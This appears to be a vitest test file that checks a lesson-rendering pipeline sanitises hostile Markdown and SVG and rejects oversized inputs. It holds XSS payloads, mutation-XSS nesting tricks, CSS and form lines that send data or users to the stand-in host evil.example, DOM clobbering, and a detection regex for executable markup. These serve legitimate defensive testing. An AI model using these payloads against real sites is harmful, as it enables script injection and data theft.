import { describe, expect, test } from "vitest";
import { lintTree } from "#app/adapters/content/lint-tree.ts";
import { codeToSpans } from "#app/adapters/content/highlight.ts";
import { parseMarkdown } from "#app/adapters/content/markdown-tree.ts";
import { readLesson } from "#app/adapters/content/read-lesson.ts";
import { renderHtml } from "#app/adapters/content/render-html.ts";
import { lintSource } from "#app/domain/content/source-limits.ts";
import { lintSvg } from "#app/domain/content/lint-svg.ts";

function render(markdown: string): string {
  return renderHtml(parseMarkdown(markdown).children);
}

const executable =
  /<(?:script|style|img|iframe|form|base|meta|svg|math|object|embed|link)\b|<[^>]*\son\w+\s*=|(?:href|src|action)="?\s*(?:javascript|data)/i;

/** Numbers as in the list of hostile inputs: 60 to 65 are markup, 66 is volume. */
const markup: Array<[number, string]> = [
  [60, "<img src=x onerror=alert(1)>"],
  [60, "text <img src=x onerror=alert(1)> text"],
  [60, "![x](x 'onerror=alert(1)')"],
  [61, "[x](javascript:alert(1))"],
  [61, "[x](JaVaScRiPt&#58;alert(1))"],
  [61, "[x](java&#10;script:alert(1))"],
  [61, "[x](data:text/html,<script>alert(1)</script>)"],
  [61, "[x]: javascript:alert(1)\n\n[x]"],
  [61, "<javascript:alert(1)>"],
  [62, "<svg><script>alert(1)</script></svg>"],
  [62, "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>"],
  [62, "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>"],
  [62, '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">'],
  [63, "<style>@import url(//evil.example/x.css)</style>"],
  [63, '<p style="width: expression(alert(1))">x</p>'],
  [63, "<style>input[value^=a]{background:url(//evil.example/a)}</style>"],
  [64, "<form action=//evil.example><button>x</button></form>"],
  [64, "<base href=//evil.example/>"],
  [64, '<meta http-equiv=refresh content="0;url=//evil.example">'],
  [65, "<a id=config name=config href=x>x</a>"],
  [66, "```html\n</code></pre><script>alert(1)</script>\n```"],
  [66, "`</code><script>alert(1)</script>`"],
];

describe("hostile Markdown", () => {
  test.each(markup)("%i: %s", (_number, markdown) => {
    const html = render(markdown);
    const shown = html.replaceAll(/&(?:lt|#x3C);/gi, "‹");
    expect(shown).not.toMatch(executable);
    expect(html).not.toMatch(/\b(?:id|name)="config"/);
  });

  test.each(markup.filter(([number]) => number !== 61 && number !== 66))(
    "%i is reported: %s",
    (_number, markdown) => {
      expect(lintTree("x.md", parseMarkdown(markdown)).problems).not.toEqual([]);
    },
  );

  test.each(["<script>", "</code></pre><script>", '<img src=x onerror="x">'])(
    "code is text in every language: %s",
    (code) => {
      for (const language of ["sql", "ts", "json", "yaml", "bash", "diff", "plan", "text"]) {
        expect(codeToSpans(code, language)).not.toMatch(/<script|<img|<\/(?:code|pre)>/);
      }
    },
  );
});

const volume: Array<[string, string]> = [
  ["a line of 1 MB", "x".repeat(1_000_000)],
  ["a line of 100 kB", "x ".repeat(50_000)],
  ["10,000 nested quotations", ">".repeat(10_000) + "x"],
  ["10,000 nested lists on one line", "- ".repeat(10_000)],
  [
    "lists nested line by line",
    Array.from({ length: 400 }, (_, n) => `${"  ".repeat(n)}- x`).join("\n"),
  ],
  ["50,000 stars", "*".repeat(50_000)],
  ["50,000 stars, line by line", "* *\n".repeat(12_500)],
  ["stars and words", "*a **b ".repeat(7_000)],
  ["as many lines of stars as a file may have", "* *\n".repeat(1_990)],
  ["open brackets, line by line", "[[[[[[[[[[\n".repeat(5_000)],
];

describe("66: volume is refused or parsed quickly", () => {
  const figures = { find: () => null, names: [], problems: [] };
  const place = { module: "m", slug: "s", number: 1, figures };
  const standard = { minWords: 0, maxWords: 9, liveBlocks: 0, quizzes: 0 };
  // Unbounded, some of these take minutes; the bound leaves room for a busy machine.
  test.each(volume)("%s", { timeout: 30_000 }, (_name, text) => {
    const start = performance.now();
    const read = readLesson({ file: "x.md", text }, place, standard);
    expect(read.problems.length).toBeGreaterThan(0);
    expect(performance.now() - start).toBeLessThan(10_000);
  });

  test("ordinary content is within the limits", () => {
    expect(lintSource("x.md", "> - a\n>   - b\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")).toEqual([]);
  });
});

test.each([
  "<svg viewBox='0 0 720 9'><script>alert(1)</script></svg>",
  "<svg viewBox='0 0 720 9' onload='alert(1)'></svg>",
  "<svg viewBox='0 0 720 9'><a href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg viewBox='0 0 720 9'><use href='data:image/svg+xml,x'/></svg>",
  "<svg viewBox='0 0 720 9'><foreignObject/></svg>",
  "<svg viewBox='0 0 720 9'><style>*{}</style></svg>",
  "<svg viewBox='0 0 720 9'><![CDATA[<script>]]></svg>",
  "<svg viewBox='0 0 720 9'><rect fill=red onclick=alert(1) /></svg>",
  "<!DOCTYPE svg [<!ENTITY x 'y'>]><svg viewBox='0 0 720 9'></svg>",
  "<svg viewBox='0 0 720 9'></svg><img src=x onerror=alert(1)>",
])("a drawing with anything but a drawing in it is refused: %s", (svg) => {
  expect(lintSvg("x", svg)).not.toEqual([]);
});
